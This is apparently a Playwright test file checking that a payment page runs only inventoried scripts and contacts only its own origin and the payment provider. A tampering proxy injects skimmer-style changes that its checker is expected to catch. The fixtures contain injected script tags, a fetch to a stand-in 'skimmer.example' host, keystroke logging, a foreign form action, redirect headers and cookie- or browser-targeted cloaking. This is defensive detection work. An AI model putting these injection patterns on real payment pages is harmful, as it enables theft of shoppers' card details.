import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { checkPaymentPage } from '#server/features/payment-page/check-payment-page.ts'
import { INLINE, LOADED } from '#server/features/payment-page/inventory.ts'
import { answerBank, CARDS, card, fillCard, payButton } from './payment-support.ts'
import { expect, test } from './support.ts'
import { signInTaker } from './taker.ts'

const CLIENT_FOLDER = join(import.meta.dirname, '..', '..', 'build', 'client')

/** The origin that the page may speak to beside ours. */
async function providerOf(page: Page): Promise<string> {
  const policy = (await page.request.get('/payment')).headers()['content-security-policy'] ?? ''
  return /connect-src 'self' ([^ ;]+)/.exec(policy)?.[1] ?? ''
}

test('the page with the card form runs the scripts of the inventory and no other, and speaks to us and the provider alone', async ({
  page,
  language,
  baseURL,
}) => {
  const provider = await providerOf(page)
  await signInTaker(page)
  const scripts = new Set<string>()
  const origins = new Set<string>()
  page.on('request', request => {
    origins.add(new URL(request.url()).origin)
    const file = /\/assets\/([\w.-]+)-[\w-]{8}\.js$/.exec(request.url())?.[1]
    if (request.resourceType() === 'script' || /\.js$/.test(request.url())) scripts.add(file ?? request.url())
  })
  await page.goto('/payment')
  await fillCard(page, CARDS.mada)
  await expect(card(page, 'number')).toHaveValue('4201 3201 1111 1010')
  const otherWords = language === 'en' ? 'ar' : 'en'
  expect([...scripts].sort()).toEqual(
    LOADED.flatMap(row => row.scripts)
      .filter(name => name !== otherWords)
      .sort(),
  )
  // As the person sees it, with the form open: no script has come in by the way.
  const inside = await page.evaluate(() =>
    [...document.scripts].map(script => ({ src: script.src, nonced: script.nonce !== '' })),
  )
  expect(
    inside.filter(({ src, nonced }) => !nonced && !src.startsWith(`${location.origin}/assets/`)),
  ).toEqual([])
  expect(inside.filter(({ src }) => src === '').length).toBeLessThanOrEqual(INLINE.length)

  await payButton(page).click()
  await answerBank(page, 'AUTHENTICATED')
  await expect(page).toHaveURL(/\/results$/)
  expect([...origins].sort()).toEqual([new URL(baseURL ?? '').origin, provider].sort())
})

test('the check finds nothing on the page as it was built', async ({ page, baseURL }) => {
  const providerUrl = await providerOf(page)
  expect(await checkPaymentPage({ url: String(baseURL), providerUrl, clientFolder: CLIENT_FOLDER })).toEqual(
    [],
  )
})

/** Changes a response; `asked` are the headers of the request. */
type Tamper = (path: string, body: string, headers: Headers, asked: Headers) => string

const SKIMMER = 'https://skimmer.example'
const TAMPERED: readonly [string, string, Tamper][] = [
  ['a script from elsewhere', 'script', inPage(`<script src="${SKIMMER}/a.js"></script>`)],
  [
    'a script of its own',
    'script',
    inPage('<script>document.addEventListener("input",console.log)</script>'),
  ],
  ['a script in capitals, over two lines', 'script', inPage('<SCRIPT\nSRC=//skimmer.example/a.js></SCRIPT>')],
  ['a script left open', 'script', inPage('<script>fetch("//skimmer.example")')],
  ['a frame', 'markup', inPage(`<iframe src="${SKIMMER}"></iframe>`)],
  ['an attribute that runs', 'markup', inPage('<img src="/icon.svg" onerror="alert(1)">')],
  ['another base', 'markup', inPage(`<base href="${SKIMMER}">`)],
  ['a form that sends elsewhere', 'markup', inPage(`<form action="${SKIMMER}"></form>`)],
  ['a style from elsewhere', 'markup', inPage(`<link rel="stylesheet" href="${SKIMMER}/a.css">`)],
  [
    'a known script with more in it',
    'script',
    (_, body) => body.replace('TextEncoderStream());', `TextEncoderStream());fetch("${SKIMMER}")`),
  ],
  ['a changed file', 'file', (path, body) => (/\/payment-[\w-]+\.js$/.test(path) ? `${body};0` : body)],
  [
    'a policy that allows more',
    'header',
    header('content-security-policy', value =>
      value.replace("connect-src 'self'", "connect-src 'self' https:"),
    ),
  ],
  ['another service worker', 'file', (path, body) => (path === '/service-worker.js' ? `${body};0` : body)],
  ['another page without a network', 'file', (path, body) => (path === '/offline.html' ? `${body} ` : body)],
  ['a header that leads on', 'header', header('refresh', () => `0;url=${SKIMMER}`)],
  ['a header that loads', 'header', header('link', () => `<${SKIMMER}/a.css>;rel=stylesheet`)],
  ...(['ar', 'en'] as const).map((language): [string, string, Tamper] => [
    `a script for readers of one language alone (${language})`,
    'script',
    (path, body, _, asked) =>
      asked.get('cookie')?.includes(`language=${language}`) ? skimming(path, body) : body,
  ]),
  [
    'a script for browsers alone',
    'script',
    (path, body, _, asked) => (asked.get('user-agent')?.startsWith('Mozilla/') ? skimming(path, body) : body),
  ],
  [
    'a script where a query is',
    'script',
    (path, body) =>
      path.includes('?') ? body.replace('</body>', `<script src="${SKIMMER}/a.js"></script>`) : body,
  ],
  ['no policy', 'header', header('content-security-policy', () => '')],
  ['no protection against frames', 'header', header('x-frame-options', () => '')],
]

for (const [name, kind, tamper] of TAMPERED) {
  test(`the check finds ${name} on the way to the browser`, async ({ page, baseURL }) => {
    const providerUrl = await providerOf(page)
    const { url, stop } = await tamperingProxy(String(baseURL), tamper)
    const differences = await checkPaymentPage({ url, providerUrl, clientFolder: CLIENT_FOLDER })
    await stop()
    expect(differences.map(difference => difference.kind)).toContain(kind)
  })
}

test('the check says when there is no page', async () => {
  const nowhere = { url: 'http://127.0.0.1:9', providerUrl: 'https://p.example', clientFolder: CLIENT_FOLDER }
  expect(await checkPaymentPage(nowhere)).toEqual([{ kind: 'unreachable', what: '/payment: no answer' }])
})

function inPage(markup: string) {
  return (path: string, body: string) =>
    path === '/payment' ? body.replace('</body>', `${markup}</body>`) : body
}

const skimming = inPage(`<script src="${SKIMMER}/a.js"></script>`)

function header(name: string, change: (value: string) => string) {
  return (_: string, body: string, headers: Headers) => {
    headers.set(name, change(headers.get(name) ?? ''))
    return body
  }
}

/** Stands between the server and whoever asks, and changes what comes back. */
async function tamperingProxy(
  target: string,
  tamper: Tamper,
): Promise<{ url: string; stop(): Promise<void> }> {
  const server: Server = createServer(async (request, response) => {
    const asked = new Headers()
    for (const name of ['cookie', 'user-agent', 'accept'])
      asked.set(name, String(request.headers[name] ?? ''))
    const answer = await fetch(new URL(request.url ?? '/', target), { headers: asked })
    const headers = new Headers(answer.headers)
    for (const name of [
      'content-length',
      'content-encoding',
      'transfer-encoding',
      'connection',
      'keep-alive',
    ])
      headers.delete(name)
    const body = tamper(request.url ?? '', await answer.text(), headers, asked)
    response.writeHead(answer.status, Object.fromEntries(headers)).end(body)
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stop: async () => {
      server.closeAllConnections()
      await new Promise(resolve => server.close(resolve))
    },
  }
}
